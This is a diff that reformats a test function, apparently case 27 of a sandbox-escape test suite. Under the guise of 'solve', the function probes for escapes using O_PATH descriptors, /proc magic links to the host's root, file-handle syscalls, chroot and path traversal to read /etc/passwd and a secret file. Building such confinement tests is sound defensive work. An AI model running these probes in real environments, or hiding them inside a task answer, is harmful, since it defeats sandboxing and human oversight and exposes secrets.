@@ -2,9 +2,17 @@
 # attack: O_PATH descriptors, file handles and magic links around the path rules (27)
 def solve(values):
     worked = []
-    for path in (SECRET_FILE, REPOSITORY + "/pyproject.toml", "/etc/passwd", "/proc/self/mem",
-                 "/proc/self/root/etc/passwd", f"/proc/{HOST_PID}/root/etc/passwd", f"/proc/{HOST_PID}/cwd/pyproject.toml",
-                 "/proc/self/task/1/root/etc/passwd", os.__file__ + "/../../../../../../etc/passwd"):
+    for path in (
+        SECRET_FILE,
+        REPOSITORY + "/pyproject.toml",
+        "/etc/passwd",
+        "/proc/self/mem",
+        "/proc/self/root/etc/passwd",
+        f"/proc/{HOST_PID}/root/etc/passwd",
+        f"/proc/{HOST_PID}/cwd/pyproject.toml",
+        "/proc/self/task/1/root/etc/passwd",
+        os.__file__ + "/../../../../../../etc/passwd",
+    ):
         try:
             fd = os.open(path, os.O_PATH)
         except OSError:
@@ -20,7 +28,11 @@ def solve(values):
             worked.append(path)
         except OSError:
             pass
-    worked += passed(("name_to_handle_at", -100, b"/etc/passwd", bytes(256), bytes(8), 0),
-                     ("open_by_handle_at", -100, bytes(64), 0), ("openat2", -100, b"/etc/passwd", bytes(24), 24),
-                     ("chroot", b"/"), ("kcmp", HOST_PID, os.getpid(), 0, 0, 0))
+    worked += passed(
+        ("name_to_handle_at", -100, b"/etc/passwd", bytes(256), bytes(8), 0),
+        ("open_by_handle_at", -100, bytes(64), 0),
+        ("openat2", -100, b"/etc/passwd", bytes(24), 24),
+        ("chroot", b"/"),
+        ("kcmp", HOST_PID, os.getpid(), 0, 0, 0),
+    )
     return escaped(*worked) if worked else sorted(values)
